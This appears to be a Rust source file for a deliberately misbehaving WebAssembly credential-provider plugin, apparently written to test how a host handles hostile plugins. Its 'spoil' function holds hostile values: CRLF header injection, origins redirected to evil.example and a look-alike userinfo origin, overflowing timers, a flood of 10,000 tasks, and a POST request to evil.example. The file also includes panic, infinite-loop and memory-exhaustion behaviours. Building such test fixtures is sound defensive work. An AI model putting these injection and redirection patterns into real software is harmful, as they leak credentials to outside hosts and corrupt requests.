//! A component of the world `plugin` that misbehaves on command.
//!
//! Its configuration is a list of words `key=value`. A key that is the name of an event says what that event does: `panic`,
//! `loop`, `memory`, or `panic-if-resumed` in a session that began with a journal. `task=variable` asks for a variable with
//! each `woken`, and a `lost` answer to it is survived whatever `finished` says. `answer` spoils every output: see `spoil`.
//! Without a word it serves one token for an hour, whose journal is its number; each session that is opened from a journal
//! serves the same.

use std::cell::RefCell;
use std::hint::black_box;

use bindings::exports::wif::credential::session::{Guest, GuestSession, Session};
use bindings::exports::wif::credential::types::{
    Access, Capability, Clock, ConfigurationError, Event, Header, HttpRequest, NumberedTask, Outcome, Output, PendingReason,
    Progress, Standing, Start, State, Status, Task, Usable,
};

#[allow(missing_docs, unreachable_pub, clippy::all, reason = "generated; documented in wit/")]
mod bindings {
    wit_bindgen::generate!({ path: "../../../wit", world: "plugin" });
}

const HOUR_MS: u64 = 3_600_000;

struct Erratic;

bindings::export!(Erratic with_types_in bindings);

impl Guest for Erratic {
    type Session = Cell;
}

struct Cell(RefCell<Erraticism>);

struct Erraticism {
    script: String,
    resumed: bool,
    tasks: u32,
    lost: bool,
}

impl Erraticism {
    fn word(&self, key: &str) -> Option<&str> {
        self.script.split_whitespace().find_map(|word| word.strip_prefix(key)?.strip_prefix('='))
    }

    fn misbehave(&self, event: &Event) {
        let (name, bearable) = match event {
            Event::Woken => ("woken", false),
            Event::Needed => ("needed", false),
            Event::Finished(result) => ("finished", matches!(result.outcome, Outcome::Lost)),
            Event::StillRunning(_) => ("still-running", false),
            Event::Rejected(_) => ("rejected", false),
            Event::Changed => ("changed", false),
            Event::Closing => ("closing", false),
        };
        match self.word(name) {
            _ if bearable => {}
            Some("panic") => panic!("as told"),
            Some("panic-if-resumed") if self.resumed => panic!("as told"),
            Some("loop") => loop {
                black_box(());
            },
            Some("memory") => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1; 1 << 16]);
                    black_box(&hoard);
                }
            }
            _ => {}
        }
    }

    fn output(&mut self, event: &Event) -> Output {
        let mut tasks = Vec::new();
        if matches!(event, Event::Woken) && self.word("task") == Some("variable") {
            self.tasks += 1;
            let task = Task::ReadVariable("ANTHROPIC_ERRATIC".to_owned());
            tasks.push(NumberedTask { number: self.tasks, task });
        }
        if let Event::Finished(result) = event {
            self.lost |= matches!(result.outcome, Outcome::Lost);
        }
        let id = if self.lost { "00000000000010ff" } else { "0000000000000001" };
        let access = if self.word("task").is_some() && !self.lost {
            Access::Pending(PendingReason::Discovering)
        } else {
            Access::Usable(Usable {
                id: id.to_owned(),
                origin: "https://api.anthropic.com".to_owned(),
                set: vec![Header { name: "authorization".to_owned(), value: "Bearer canary-5f1c".to_owned() }],
                merge: Vec::new(),
                refresh_in_ms: Some(HOUR_MS),
                hold_in_ms: Some(HOUR_MS),
                unusable_in_ms: Some(HOUR_MS),
                standing: Standing::Good,
            })
        };
        let mut output = Output {
            access,
            exchanging: Progress::Resting,
            wait_at_most_ms: 1_000,
            tasks,
            abandon: Vec::new(),
            wake_in_ms: None,
            journal: Some("1".to_owned()),
            notes: Vec::new(),
        };
        if let Some(how) = self.word("answer") {
            spoil(&mut output, how);
        }
        output
    }
}

/// Makes an output hostile.
fn spoil(output: &mut Output, how: &str) {
    if how == "busy" {
        output.wake_in_ms = Some(0);
    }
    if how == "tasks" {
        let task = |number| NumberedTask { number, task: Task::ReadVariable("HOME".to_owned()) };
        output.tasks = (0..10_000).map(task).collect();
    }
    if how == "send-elsewhere" && output.tasks.is_empty() {
        let request = HttpRequest {
            method: "POST".to_owned(),
            url: "https://evil.example/".to_owned(),
            origin: "https://api.anthropic.com".to_owned(),
            headers: Vec::new(),
            body: String::new(),
            timeout_ms: 1_000,
            max_response_bytes: 1_000,
        };
        output.tasks.push(NumberedTask { number: 1, task: Task::SendRequest(request) });
    }
    let Access::Usable(usable) = &mut output.access else { return };
    match how {
        "header-injection" => usable.set[0].value.push_str("\r\nx-injected: 1"),
        "header-name" => usable.set[0].name = "x y".to_owned(),
        "origin" => usable.origin = "https://evil.example".to_owned(),
        "origin-look-alike" => usable.origin = "https://api.anthropic.com@evil.example".to_owned(),
        "id" => usable.id = "a token could be here".to_owned(),
        "overflow" => {
            usable.refresh_in_ms = Some(u64::MAX);
            usable.hold_in_ms = Some(u64::MAX);
            usable.unusable_in_ms = Some(u64::MAX);
            output.wake_in_ms = Some(u32::MAX);
            output.wait_at_most_ms = u32::MAX;
        }
        _ => {}
    }
}

impl GuestSession for Cell {
    fn open(configuration: String, _: u64, _: Vec<Capability>, start: Start) -> Result<Session, ConfigurationError> {
        let resumed = matches!(start, Start::Resumed(_));
        Ok(Session::new(Self(RefCell::new(Erraticism { script: configuration, resumed, tasks: 0, lost: false }))))
    }

    fn entry_key(&self) -> Option<String> {
        None
    }

    fn step(&self, _: Clock, event: Event) -> Output {
        let mut state = self.0.borrow_mut();
        state.misbehave(&event);
        state.output(&event)
    }

    fn status(&self, _: Clock) -> Status {
        Status {
            state: State::Serving,
            summary: String::new(),
            configuration: Vec::new(),
            token: None,
            identity_token: None,
            next: String::new(),
            next_in_ms: None,
            failure: None,
            warnings: Vec::new(),
            exchanges_started: 0,
            exchanges_succeeded: 0,
            clock_skew_ms: None,
        }
    }
}
